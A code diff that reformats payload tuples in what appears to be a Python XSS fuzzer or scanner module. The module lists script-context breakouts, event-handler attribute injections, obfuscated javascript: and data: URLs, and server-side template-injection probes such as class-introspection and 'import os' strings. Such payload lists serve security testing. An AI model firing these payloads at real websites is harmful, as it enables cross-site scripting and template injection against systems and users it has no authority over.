@@ -11,7 +11,14 @@ from itertools import product
 from urllib.parse import quote
 
 DEED = "window.__xss=1"
-_CALLS = (DEED, "alert(1)", "window['__xss']=1", "(_=>window.__xss=1)()", "top.__xss=1", "setTimeout`window.__xss\\x3d1`")
+_CALLS = (
+    DEED,
+    "alert(1)",
+    "window['__xss']=1",
+    "(_=>window.__xss=1)()",
+    "top.__xss=1",
+    "setTimeout`window.__xss\\x3d1`",
+)
 
 # what ends the place that the words stand in
 _BREAKS = {
@@ -53,7 +60,15 @@ _EVENTS = (
     "onsubmit ontoggle ontouchstart ontransitionend onwheel"
 ).split()
 # an attribute added to the element that the words stand in
-_ADDED = ('" {1}={0} x="', "' {1}='{0}' x='", '" autofocus tabindex=0 {1}="{0}', "` {1}={0} ", " {1}={0} ", '"/{1}="{0}"/x="', '"\n{1}\n=\n"{0}')
+_ADDED = (
+    '" {1}={0} x="',
+    "' {1}='{0}' x='",
+    '" autofocus tabindex=0 {1}="{0}',
+    "` {1}={0} ",
+    " {1}={0} ",
+    '"/{1}="{0}"/x="',
+    '"\n{1}\n=\n"{0}',
+)
 _ADDRESSES = (
     "javascript:{0}", "JavaScript:{0}", " javascript:{0}", "java\nscript:{0}", "java\tscript:{0}", "\x01javascript:{0}",
     "javascript&colon;{0}", "javascript&#58;{0}", "&#106;avascript:{0}", "vbscript:{0}", "data:text/html,<script>{0}</script>",
@@ -73,7 +88,12 @@ _TEMPLATES = (
     "{{{{{0}}}}}", "{{%{0}%}}", "{{{{7*7}}}}{0}", "{{{{''.__class__.__mro__}}}}{0}", "{{% import os %}}{0}", "{{#{0}#}}", "${{7*7}}{0}",
     "<%={0}%>", "#{{{0}}}", "{{{{config|safe}}}}{0}", "{{{{'<script>{0}</script>'|safe}}}}", "{{%raw%}}<script>{0}</script>{{%endraw%}}",
 )  # fmt: skip
-_DATA = ('{{"x":"</script><script>{0}</script>"}}', '"],"x":[{0}', '<script type="application/json">{0}</script>', '\\u003cscript>{0}')
+_DATA = (
+    '{{"x":"</script><script>{0}</script>"}}',
+    '"],"x":[{0}',
+    '<script type="application/json">{0}</script>',
+    "\\u003cscript>{0}",
+)
 
 
 def _writings(words: str) -> dict[str, str]:
